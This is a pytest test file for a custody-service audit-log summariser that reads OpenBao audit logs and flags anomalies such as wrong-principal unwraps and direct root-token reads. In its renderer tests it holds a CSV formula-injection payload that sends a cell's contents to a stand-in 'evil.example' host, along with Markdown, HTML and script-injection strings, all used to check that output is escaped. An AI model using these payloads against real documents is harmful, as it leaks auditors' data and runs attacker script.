"""The audit summariser over a real OpenBao audit log of a known scenario (tests/fixtures/audit/scenario.log).

The log was recorded by tests/fixtures/audit/record.py; its docstring and ``run()`` describe the scenario: grants
g-0001..g-0009 with the outcomes asserted below, a root-token read, an engineer's denied read and list, a custody
API denial, two deposits and one rotation.
"""

from __future__ import annotations

import csv
import gzip
import io
import json
import re
from collections import Counter
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import orjson
import pytest

from custody.auditlog import (
    SCHEMA_VERSION,
    AuditReadError,
    TimeArgError,
    parse_time,
    read_lines,
    read_paths,
    render,
    summarize,
    summarize_lines,
    summarize_partial,
)
from custody.auditlog import reader as reader_mod
from custody.auditlog.model import AnomalyKind, Severity, Summary, UnwrapStatus
from custody.auditlog.timeparse import norm_time

FIXTURES = Path(__file__).resolve().parent.parent / "fixtures" / "audit"
SCENARIO = FIXTURES / "scenario.log"
META = json.loads((FIXTURES / "scenario.meta.json").read_text())
ENT = META["entities"]
LATE = timedelta(seconds=2)  # the scenario waits 3 s before the late unwrap of g-0009


def scenario_lines() -> list[bytes]:
    return SCENARIO.read_bytes().splitlines(keepends=True)


def comparable(s: Summary) -> dict[str, Any]:
    """The summary without the names of the files read (which differ between equivalent inputs)."""
    d = s.model_dump(mode="json")
    d["input"].pop("files")
    return d


@pytest.fixture(scope="module")
def summary() -> Summary:
    return summarize([SCENARIO], late_after=LATE, workers=1)


def test_input_counts(summary: Summary) -> None:
    assert summary.schema_version == SCHEMA_VERSION
    assert summary.input.lines_total == 442
    assert summary.input.lines_custody == 221
    assert summary.input.lines_invalid == 0
    assert summary.input.entries_duplicate == 0
    assert summary.warnings == []


def test_totals(summary: Summary) -> None:
    t = summary.totals
    assert (t.reveals, t.requests, t.approvals, t.grants_denied) == (8, 9, 8, 1)
    assert (t.access_denied, t.direct_accesses, t.deposits, t.rotations) == (3, 1, 2, 1)
    assert t.anomalies == 12


def test_anomaly_kinds(summary: Summary) -> None:
    kinds = Counter(a.kind for a in summary.anomalies)
    assert kinds == {
        AnomalyKind.PERMISSION_DENIED: 3,
        AnomalyKind.MOUNT_ADMIN: 1,
        AnomalyKind.UNWRAP_WRONG_PRINCIPAL: 1,
        AnomalyKind.EMERGENCY_UNREVIEWED: 1,
        AnomalyKind.UNWRAP_UNATTRIBUTED: 1,
        AnomalyKind.NEVER_UNWRAPPED: 1,
        AnomalyKind.UNWRAP_FAILED: 1,
        AnomalyKind.HANDOUT_WITHOUT_APPROVED_GRANT: 1,
        AnomalyKind.UNWRAP_LATE: 1,
        AnomalyKind.DIRECT_ACCESS: 1,
    }
    for a in summary.anomalies:
        assert a.time and a.path and a.detail and a.why


def test_reveal_outcomes(summary: Summary) -> None:
    status = {r.grant_id: r.unwrap_status for r in summary.reveals}
    assert status == {
        "g-0001": UnwrapStatus.BY_REQUESTER,
        "g-0002": UnwrapStatus.WRONG_PRINCIPAL,
        "g-0003": UnwrapStatus.UNATTRIBUTED,
        "g-0004": UnwrapStatus.BY_REQUESTER,
        "g-0006": UnwrapStatus.NEVER,
        "g-0007": UnwrapStatus.BY_REQUESTER,
        "g-0008": UnwrapStatus.BY_REQUESTER,
        "g-0009": UnwrapStatus.LATE,
    }
    g1 = next(r for r in summary.reveals if r.grant_id == "g-0001")
    assert g1.account == "pypi/acme"
    assert g1.requester.entity_id == ENT["alice"]
    assert g1.requester.display_name == "userpass-alice"
    assert g1.reason == "lost phone, release 2.1 blocked"
    assert g1.ticket == "SEC-101"
    assert [a.approver for a in g1.approvers] == ["userpass-bob", "userpass-carol"]
    assert g1.grant_status_at_handout == "revealed"  # claimed by this reveal just before
    assert g1.wrap_ttl_seconds == 300
    assert [u.principal.entity_id for u in g1.unwraps] == [ENT["alice"]]
    g3 = next(r for r in summary.reveals if r.grant_id == "g-0003")
    assert g3.emergency and g3.approvers == []
    g7 = next(r for r in summary.reveals if r.grant_id == "g-0007")
    assert [u.ok for u in g7.unwraps] == [True, False]


def test_wrong_principal_names_the_interceptor(summary: Summary) -> None:
    (a,) = [a for a in summary.anomalies if a.kind is AnomalyKind.UNWRAP_WRONG_PRINCIPAL]
    assert a.grant_id == "g-0002"
    assert a.account == "pypi/widgets"
    assert a.principal.entity_id == ENT["mallory"]
    assert a.principal.display_name == "userpass-mallory"
    assert a.severity is Severity.CRITICAL
    assert a.path == "sys/wrapping/unwrap"


def test_failed_unwrap_carries_the_caller_token_hmac(summary: Summary) -> None:
    (a,) = [a for a in summary.anomalies if a.kind is AnomalyKind.UNWRAP_FAILED]
    assert a.grant_id == "g-0007"
    assert "wrapping token is not valid" in a.detail
    assert "hmac-sha256:" in a.detail  # traceable with sys/audit-hash or a grep of the log


def test_direct_and_denied_access(summary: Summary) -> None:
    (direct,) = [a for a in summary.anomalies if a.kind is AnomalyKind.DIRECT_ACCESS]
    assert direct.path == "custody-kv/data/codes/pypi/acme"
    assert direct.operation == "read"
    assert direct.severity is Severity.CRITICAL  # a root token
    assert direct.account == "pypi/acme"
    denied = [a for a in summary.anomalies if a.kind is AnomalyKind.PERMISSION_DENIED]
    assert {a.path for a in denied} == {
        "custody-kv/data/codes/pypi/acme",
        "custody-kv/metadata/grants/",
        "custody/accounts/pypi/acme/grants/g-0001/approve",
    }
    assert {a.principal.entity_id for a in denied} == {ENT["mallory"]}


def test_handout_without_approval_and_unreviewed_emergency(summary: Summary) -> None:
    (h,) = [a for a in summary.anomalies if a.kind is AnomalyKind.HANDOUT_WITHOUT_APPROVED_GRANT]
    assert h.grant_id == "g-0008"
    assert "'pending'" in h.detail
    (e,) = [a for a in summary.anomalies if a.kind is AnomalyKind.EMERGENCY_UNREVIEWED]
    assert e.grant_id == "g-0003"  # g-0004 was reviewed by sec
    assert e.principal.entity_id == ENT["erin"]


def test_accounts(summary: Summary) -> None:
    acc = {a.account: a for a in summary.accounts}
    assert set(acc) == {"pypi/acme", "pypi/widgets"}
    acme, widgets = acc["pypi/acme"], acc["pypi/widgets"]
    assert (acme.owner, acme.tier, acme.approvals_required) == ("owner@acme.example", "critical", 2)
    assert (acme.requests, acme.approvals, acme.grants_denied, acme.access_denied) == (5, 6, 1, 2)
    assert (acme.deposits, acme.rotations, acme.codes_remaining, len(acme.reveals)) == (1, 0, 4, 4)
    assert (widgets.requests, widgets.approvals, widgets.grants_denied, widgets.access_denied) == (4, 2, 0, 0)
    assert (widgets.deposits, widgets.rotations, widgets.codes_remaining, len(widgets.reveals)) == (1, 1, 8, 4)


def test_principals(summary: Summary) -> None:
    by_entity = {p.principal.entity_id: p for p in summary.principals}
    alice = by_entity[ENT["alice"]]
    assert alice.principal.display_name == "userpass-alice"
    assert alice.requested == ["g-0001", "g-0004", "g-0005", "g-0006", "g-0007", "g-0009"]
    assert alice.revealed == ["g-0001", "g-0004", "g-0006", "g-0007", "g-0009"]
    assert alice.unwrapped == 4
    assert by_entity[ENT["bob"]].approved == ["g-0001", "g-0002", "g-0007", "g-0009"]
    assert by_entity[ENT["bob"]].denied == ["g-0005"]
    assert by_entity[ENT["carol"]].approved == ["g-0001", "g-0006", "g-0007", "g-0009"]
    assert by_entity[ENT["sec"]].reviewed == ["g-0004"]
    mallory = by_entity[ENT["mallory"]]
    assert (mallory.unwrapped, mallory.access_denied, mallory.anomalies) == (1, 3, 4)


def test_late_threshold_is_a_parameter() -> None:
    s = summarize([SCENARIO], late_after=timedelta(minutes=2), workers=1)
    assert {r.grant_id: r.unwrap_status for r in s.reveals}["g-0009"] is UnwrapStatus.BY_REQUESTER
    assert AnomalyKind.UNWRAP_LATE not in {a.kind for a in s.anomalies}


def test_window_filters_events_but_keeps_state(summary: Summary) -> None:
    first = summary.input.first_entry
    nothing = summarize([SCENARIO], until=first, late_after=LATE, workers=1)
    assert nothing.totals.reveals == 0 and nothing.totals.anomalies == 0
    g9 = next(r for r in summary.reveals if r.grant_id == "g-0009")
    tail = summarize([SCENARIO], since=g9.time, late_after=LATE, workers=1)
    assert [r.grant_id for r in tail.reveals] == ["g-0009"]
    # the grant was requested and approved before the window, yet the reveal is joined with its reason
    assert tail.reveals[0].reason == "phone reset"
    assert len(tail.reveals[0].approvers) == 2
    assert tail.totals.requests == 0


def test_rotated_gzip_and_plain_set_equals_whole(tmp_path: Path, summary: Summary) -> None:
    lines = scenario_lines()
    older, newer = tmp_path / "audit.log.1.gz", tmp_path / "audit.log"
    with gzip.open(older, "wb") as f:
        f.writelines(lines[:200])
    newer.write_bytes(b"".join(lines[200:]))
    s = summarize([newer, older], late_after=LATE, workers=2)
    assert comparable(s) == comparable(summary)
    assert s.input.files == sorted([str(newer), str(older)])


def test_cluster_nodes_are_deduplicated(tmp_path: Path, summary: Summary) -> None:
    lines = scenario_lines()
    node_a, node_b = tmp_path / "node-a.log", tmp_path / "node-b.log"
    node_a.write_bytes(b"".join(lines))
    node_b.write_bytes(b"".join(lines[100:300]))  # a standby that saw part of the traffic
    s = summarize([node_a, node_b], late_after=LATE, workers=2)
    assert s.totals == summary.totals
    assert s.reveals == summary.reveals
    assert s.input.entries_duplicate > 0
    assert s.input.lines_total == 442 + 200


def test_parallel_ranges_equal_sequential(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setattr(reader_mod, "SPLIT_MIN", 1024)
    monkeypatch.setattr(reader_mod, "CHUNK", 4096)  # many chunks, lines cut at chunk ends
    monkeypatch.setattr(reader_mod, "INBOX_MAX", 1)  # the worker waits for each of its messages to be folded in
    seq = summarize([SCENARIO], late_after=LATE, workers=1)
    par = summarize([SCENARIO], late_after=LATE, workers=2)
    assert len(reader_mod.plan([SCENARIO], 2)) == 2
    assert comparable(par) == comparable(seq)


@pytest.mark.parametrize("dense", [-1.0, 2.0])  # every chunk after the first walked line by line, or none
def test_lines_walked_or_markers_searched_read_the_same(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path, summary: Summary, dense: float
) -> None:
    lines = scenario_lines()
    grant_write = next(ln for ln in lines if b'"type":"response"' in ln and b"custody-kv/data/grants/" in ln
                       and b'"operation":"create"' in ln)
    broken = grant_write.replace(b'"custody-kv', b'"\xff\xfecustody-kv', 1)  # not UTF-8: not an audit entry
    # valid UTF-8, not ASCII, in a field the summary does not read: a copy of the same write, counted once
    accented = grant_write.replace(b'{"time":', '{"note":"Téléphone perdu","time":'.encode(), 1)
    log = tmp_path / "audit.log"
    log.write_bytes(b"".join([*lines[:100], broken, *lines[100:], accented]))
    monkeypatch.setattr(reader_mod, "CHUNK", 16384)  # many chunks, lines cut at chunk ends
    monkeypatch.setattr(reader_mod, "DENSE", dense)
    s = summarize([log], late_after=LATE, workers=1)
    assert s.input.lines_invalid == 1 and s.input.lines_custody == summary.input.lines_custody + 2
    assert s.input.entries_duplicate == 1
    got, want = comparable(s), comparable(summary)
    assert got.pop("warnings") == ["1 line(s) were not audit entries and were skipped"] and not want.pop("warnings")
    for d in (got, want):
        d.pop("input")
    assert got == want


def test_line_longer_than_the_buffer(monkeypatch: pytest.MonkeyPatch, summary: Summary) -> None:
    monkeypatch.setattr(reader_mod, "CHUNK", 512)  # every audit line is longer than this
    assert comparable(summarize([SCENARIO], late_after=LATE, workers=1)) == comparable(summary)


def test_garbage_lines_are_counted_not_fatal(tmp_path: Path, summary: Summary) -> None:
    lines = scenario_lines()
    garbage = [
        b"not json at all\n",
        b"\n",
        b'{"time": "x", "type": "response", "request": {"path": "custody-kv/data/codes/x"\n',  # cut short
        b'{"type":"response","request":"custody-kv/"}\n',  # wrong shape
        b"\xff\xfe custody-kv/ \x00\n",
        b"[1, 2, 3]\n",
    ]
    mixed = lines[:50] + garbage + lines[50:]
    log = tmp_path / "audit.log"
    log.write_bytes(b"".join(mixed) + b'{"truncated": "custody-kv/')  # last line without newline
    s = summarize([log], late_after=LATE, workers=1)
    assert s.input.lines_total == 442 + len(garbage) + 1
    assert s.input.lines_invalid == len(garbage) + 1
    assert s.totals == summary.totals
    assert any("not audit entries" in w for w in s.warnings)


def test_missing_file_is_an_error_with_a_hint(tmp_path: Path) -> None:
    with pytest.raises(AuditReadError) as e:
        summarize([tmp_path / "nope.log"])
    assert "--log" in e.value.diagnostics()


def test_corrupt_gzip_is_an_error(tmp_path: Path) -> None:
    bad = tmp_path / "audit.log.gz"
    bad.write_bytes(b"\x1f\x8b" + b"not really gzip")
    with pytest.raises(AuditReadError):
        summarize([bad], workers=1)


def test_unreadable_file_in_a_worker_is_an_error(tmp_path: Path) -> None:
    bad = tmp_path / "node-b.log.gz"
    bad.write_bytes(b"\x1f\x8b" + b"not really gzip")
    with pytest.raises(AuditReadError) as e:
        summarize([SCENARIO, bad], workers=2)  # the gzip file is read by the worker process
    assert str(bad) in str(e.value)


def test_lines_api_equals_file_api(summary: Summary) -> None:
    s = summarize_lines(scenario_lines(), late_after=LATE)
    assert comparable(s) == comparable(summary)


def test_other_mount_and_role_see_nothing() -> None:
    s = summarize([SCENARIO], mount="other-kv", workers=1)
    assert s.totals.reveals == 0 and s.accounts == []
    # with another service role every custody-kv call is somebody else's: all direct access
    s2 = summarize([SCENARIO], service_role="someone-else", workers=1)
    assert s2.totals.reveals == 0
    assert s2.totals.direct_accesses > 50


def test_hmaced_fields_raise_a_warning() -> None:
    line = {
        "time": "2025-01-01T00:00:00Z",
        "type": "response",
        "auth": {"display_name": "approle", "metadata": {"role_name": "custody-service"}},
        "request": {
            "id": "r1",
            "operation": "update",
            "path": "custody-kv/data/grants/g1",
            "data": {"data": {"event": "hmac-sha256:abc", "grant_id": "hmac-sha256:def"}},
        },
    }
    s = summarize_lines([orjson.dumps(line)])
    assert any("audit_non_hmac_request_keys" in w for w in s.warnings)


def test_approle_token_of_another_role_is_not_the_service() -> None:
    line = {
        "time": "2025-01-01T00:00:00Z",
        "type": "response",
        "auth": {"display_name": "approle", "metadata": {"role_name": "rotation-cron"}, "entity_id": "e1"},
        "request": {"id": "r1", "operation": "read", "path": "custody-kv/data/codes/pypi/acme"},
    }
    s = summarize_lines([orjson.dumps(line)])
    (a,) = s.anomalies
    assert a.kind is AnomalyKind.DIRECT_ACCESS and a.account == "pypi/acme"


def test_partials_merge_in_any_order(summary: Summary) -> None:
    lines = scenario_lines()
    parts = [read_lines(lines[i::3]) for i in range(3)]
    a = parts[0]
    a.merge(parts[1]).merge(parts[2])
    b = read_lines(lines[2::3])
    b.merge(read_lines(lines[0::3])).merge(read_lines(lines[1::3]))
    sa, sb = summarize_partial(a, late_after=LATE), summarize_partial(b, late_after=LATE)
    assert comparable(sa) == comparable(sb) == comparable(summary)


def test_a_partial_merged_with_itself_counts_every_entry_once(summary: Summary) -> None:
    lines = scenario_lines()
    twice = read_lines(lines).merge(read_lines(lines))
    s = summarize_partial(twice, late_after=LATE)
    assert s.totals == summary.totals and s.reveals == summary.reveals and s.accounts == summary.accounts
    assert s.input.entries_duplicate == read_lines(lines).occurrences


def test_merge_leaves_the_merged_partial_alone() -> None:
    lines = scenario_lines()
    a, b = read_lines(lines[:220]), read_lines(lines[220:])
    before = comparable(summarize_partial(b, late_after=LATE))
    a.merge(b)
    read_lines(lines).merge(a)  # a second merge that would show it if a's containers were shared with b
    a.merge(read_lines(lines[200:240]))
    assert comparable(summarize_partial(b, late_after=LATE)) == before


def _later_copies(lines: list[bytes]) -> list[bytes]:
    """The service's writes as another node's log might show them: same request ids, a few microseconds later."""
    out = []
    for line in lines:
        e = orjson.loads(line)
        path = e["request"]["path"]
        if (
            e["type"] == "response"
            and e["request"]["operation"] in ("create", "update")
            and path.startswith("custody-kv/data/")
            and not path.startswith("custody-kv/data/reveals/")  # staging the code: not a fact
        ):
            e["time"] = norm_time(e["time"])[:23] + "999999Z"  # later, within the same millisecond
            out.append(orjson.dumps(e) + b"\n")
    return out


def test_copies_of_a_write_with_another_time_count_once_in_any_order(summary: Summary) -> None:
    lines = scenario_lines()
    copies = _later_copies(lines)
    assert copies
    forward = read_lines(lines).merge(read_lines(copies))
    backward = read_lines(copies).merge(read_lines(lines))
    together = read_lines(copies + lines)
    results = [comparable(summarize_partial(p, late_after=LATE)) for p in (forward, backward, together)]
    assert results[0] == results[1] == results[2]
    assert results[0]["totals"] == summary.totals.model_dump(mode="json")
    assert results[0]["input"]["entries_duplicate"] == len(copies)


def test_read_paths_counts_files(tmp_path: Path) -> None:
    empty = tmp_path / "empty.log"
    empty.write_bytes(b"")
    p = read_paths([empty], workers=1)
    assert (p.lines_total, p.lines_invalid, p.facts) == (0, 0, {})


# --- renderers ------------------------------------------------------------------------------------------------


def test_json_is_the_schema(summary: Summary) -> None:
    text = render(summary, "json")
    data = json.loads(text)
    assert data["schema_version"] == SCHEMA_VERSION
    assert Summary.model_validate(data) == summary
    assert render(summary, "json") == text  # stable


def _keys_in_order(value: Any) -> bool:
    if isinstance(value, dict):
        return list(value) == sorted(value) and all(map(_keys_in_order, value.values()))
    if isinstance(value, list):
        return all(map(_keys_in_order, value))
    return True


def test_json_keys_are_sorted_and_every_model_declares_its_fields_in_name_order(summary: Summary) -> None:
    # the JSON encoder writes fields in their declared order: declared in name order, the keys come out sorted
    # without the encoder sorting them
    import msgspec

    from custody.auditlog import model

    for cls in vars(model).values():
        if isinstance(cls, type) and issubclass(cls, msgspec.Struct) and cls.__module__ == model.__name__:
            assert list(cls.__struct_fields__) == sorted(cls.__struct_fields__), cls.__name__
    assert _keys_in_order(json.loads(render(summary, "json")))


def test_markdown(summary: Summary) -> None:
    md = render(summary, "markdown")
    assert md.startswith("# Custody access summary")
    assert "## Anomalies" in md and "## Reveals" in md and "## Accounts" in md and "## Principals" in md
    assert "| 2026-" in md
    assert md.count("unwrap_wrong_principal") == 1


def test_csv_one_row_per_access(summary: Summary) -> None:
    rows = list(csv.DictReader(io.StringIO(render(summary, "csv"))))
    kinds = Counter(r["kind"] for r in rows)
    assert kinds == {
        "reveal": 8,
        "unwrap": 8,  # g-0006 never, g-0007 twice
        "direct_access": 1,
        "permission_denied": 2,
        "api_denied": 1,
        "mount_admin": 1,
    }
    g1 = next(r for r in rows if r["kind"] == "reveal" and r["grant_id"] == "g-0001")
    assert g1["reason"] == "lost phone, release 2.1 blocked"
    assert g1["approvers"] == "userpass-bob; userpass-carol"
    assert rows == sorted(rows, key=lambda r: r["time"])


def test_reasons_open_as_text_in_a_spreadsheet_and_in_markdown(summary: Summary) -> None:
    """A requester writes the reason; the auditor opens the CSV in a spreadsheet and the Markdown in a viewer."""
    evil = ('=HYPERLINK("https://evil.example/?"&A1,"audit ok") see [docs](https://evil.example) <img src=x> `x` '
            '&#x202E;gnitset')
    first = summary.reveals[0].model_copy(update={"reason": evil})
    changed = summary.model_copy(update={"reveals": [first, *summary.reveals[1:]]})
    rows = list(csv.DictReader(io.StringIO(render(changed, "csv"))))
    cell = next(r["reason"] for r in rows if r["grant_id"] == first.grant_id and r["kind"] == "reveal")
    assert cell == "'" + evil  # text, not a formula
    assert not any(v.startswith(("=", "+", "-", "@")) for r in rows for v in r.values())
    md = render(changed, "markdown")
    assert "\\[docs\\](https://evil.example)" in md and "\\<img src=x\\>" in md and "\\`x\\`" in md
    assert not re.search(r"(?<!\\)\[docs|(?<!\\)<img|(?<!\\)&#x202E", md)  # nothing left unescaped


def test_html_is_self_contained(summary: Summary) -> None:
    page = render(summary, "html")
    assert page.startswith("<!DOCTYPE html>")
    assert page.count('<circle class="reveal"') == 8
    for external in ("http://", "https://", "<script", "<link", "@import", "url("):
        assert external not in page.replace('xmlns="http://www.w3.org/2000/svg"', "")


def test_html_escapes_user_text() -> None:
    evil = {
        "time": "2025-01-01T00:00:00Z",
        "type": "response",
        "auth": {"display_name": "approle", "metadata": {"role_name": "custody-service"}},
        "request": {
            "id": "r1",
            "operation": "update",
            "path": "custody-kv/data/grants/g1",
            "data": {
                "data": {
                    "event": "grant.requested",
                    "grant_id": "g1",
                    "account": "pypi/x",
                    "reason": "<script>alert(1)</script>",
                    "requester": "u",
                }
            },
        },
    }
    hand = {
        "time": "2025-01-01T00:00:01Z",
        "type": "response",
        "auth": {"display_name": "approle", "metadata": {"role_name": "custody-service"}},
        "request": {"id": "r2", "operation": "read", "path": "custody-kv/data/reveals/g1"},
        "response": {"wrap_info": {"token": "hmac-sha256:w", "ttl": 60}},
    }
    page = render(summarize_lines([orjson.dumps(evil), orjson.dumps(hand)]), "html")
    assert "<script>" not in page
    assert "&lt;script&gt;" in page


def test_empty_summary_renders_everywhere() -> None:
    s = summarize_lines([])
    for fmt in ("json", "markdown", "csv", "html"):
        assert render(s, fmt)


# --- time arguments -------------------------------------------------------------------------------------------


def test_parse_time_forms() -> None:
    assert parse_time(None) == ""
    assert parse_time("2025-03-01") == "2025-03-01T00:00:00.000000000Z"
    assert parse_time("2025-03-01T12:00:00+02:00") == "2025-03-01T10:00:00.000000000Z"
    assert parse_time(datetime(2025, 3, 1, tzinfo=UTC)) == "2025-03-01T00:00:00.000000000Z"
    now = datetime(2025, 3, 8, tzinfo=UTC)
    assert parse_time("7d", now=now) == "2025-03-01T00:00:00.000000000Z"
    with pytest.raises(TimeArgError) as e:
        parse_time("last tuesday")
    assert "24h" in e.value.diagnostics()


def test_norm_time_orders_like_time() -> None:
    a = norm_time("2026-11-25T06:37:22.06823Z")
    b = norm_time("2026-11-25T06:37:22.068235959Z")
    c = norm_time("2026-11-25T06:37:22Z")
    assert c < a < b
    assert norm_time("garbage") == "" and norm_time(None) == ""
    assert norm_time("2026-11-25T07:37:22.5+01:00") == "2026-11-25T06:37:22.500000000Z"
